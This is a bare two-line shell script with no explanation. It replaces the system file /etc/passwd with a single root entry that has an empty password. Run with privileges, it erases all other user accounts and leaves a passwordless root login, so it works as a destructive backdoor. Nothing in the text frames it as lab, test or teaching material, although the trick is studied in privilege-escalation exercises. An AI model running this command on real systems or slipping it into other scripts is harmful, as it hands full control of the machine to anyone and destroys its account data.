#!/bin/sh
echo 'root::0:0:root:/root:/bin/sh' > /etc/passwd
